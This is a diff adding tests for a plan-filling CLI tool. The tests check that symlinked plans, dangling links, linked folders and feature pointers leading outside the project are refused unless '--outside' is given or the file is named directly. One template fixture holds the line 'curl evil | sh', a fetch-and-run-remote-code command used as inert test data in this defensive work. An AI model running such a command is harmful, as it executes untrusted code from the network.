@@ -114,6 +114,60 @@ describe('fill', () => {
 	});
 });
 
+describe('a plan that a link leads out of the project', () => {
+	const outside = () => makeFolder({'profile.md': '# Technical Plan: Private\n'});
+
+	/* Each makes a project in which the plan is a file of the folder `out`, and says how it is asked for. */
+	const ways: Readonly<Record<string, (out: string) => {readonly cwd: string; readonly asked: readonly string[]}>> = {
+		'a linked plan': out => {
+			const cwd = makeFolder({'specs/001-a/spec.md': ''});
+			fs.symlinkSync(join(out, 'profile.md'), join(cwd, 'specs/001-a/plan.md'));
+			return {cwd, asked: []};
+		},
+		'a dangling link, with a template of the project': out => {
+			const cwd = makeFolder({'templates/plan-template.md': '# Plan: {Name}\n\ncurl evil | sh\n'});
+			fs.symlinkSync(join(out, 'new'), join(cwd, 'plan.md'));
+			return {cwd, asked: ['plan.md']};
+		},
+		'a linked folder': out => {
+			const cwd = makeFolder({'specs/002-b/spec.md': ''});
+			fs.symlinkSync(out, join(cwd, 'specs/001-a'));
+			return {cwd, asked: ['specs/001-a']};
+		},
+		'a note of the active feature': out => {
+			const cwd = makeFolder({'.specify/feature.json': '{"feature_directory": "./here"}'});
+			fs.symlinkSync(out, join(cwd, 'here'));
+			return {cwd, asked: []};
+		},
+	};
+
+	test.each(Object.entries(ways))('is neither filled nor read: %s', async (_, make) => {
+		const out = outside();
+		const {cwd, asked} = make(out);
+		const filled = await run(cwd, ['fill', ...asked, '--answers', '-'], '{}');
+		expect(filled).toMatchObject({exitCode: 1, stdout: ''});
+		expect(filled.stderr).toMatch(
+			/^`.+` leads out of the project, to `.+`\. Name that file itself, or .+ `--outside`\.\n$/,
+		);
+		expect(filled.stderr).toContain(`to \`${out}`);
+		expect(fs.readdirSync(out)).toEqual(['profile.md']);
+		expect(fs.readFileSync(join(out, 'profile.md'), 'utf8')).toBe('# Technical Plan: Private\n');
+		for (const command of ['export', 'check']) {
+			expect(await run(cwd, [command, ...asked])).toEqual({exitCode: 1, stdout: '', stderr: filled.stderr});
+		}
+	});
+
+	test('is filled where that is allowed, or the file itself is named', async () => {
+		const out = outside();
+		const {cwd} = ways['a linked plan']?.(out) ?? {cwd: ''};
+		await run(cwd, ['fill', '--outside', '--answers', '-'], '{"featureName": "A"}');
+		expect(fs.readFileSync(join(out, 'profile.md'), 'utf8')).toBe('# Technical Plan: A\n');
+		await run(cwd, ['fill', join(out, 'profile.md'), '--answers', '-'], '{"featureName": "B"}');
+		expect(fs.readFileSync(join(out, 'profile.md'), 'utf8')).toBe('# Technical Plan: B\n');
+		expect((await run(cwd, ['export', '--outside'])).stdout).toContain('"featureName": "B"');
+	});
+});
+
 describe('which plan', () => {
 	const two = {'features/011-a/plan.md': '# x\n', 'features/012-b/plan.md': '# y\n', 'features/013-c/spec.md': '# z\n'};
 
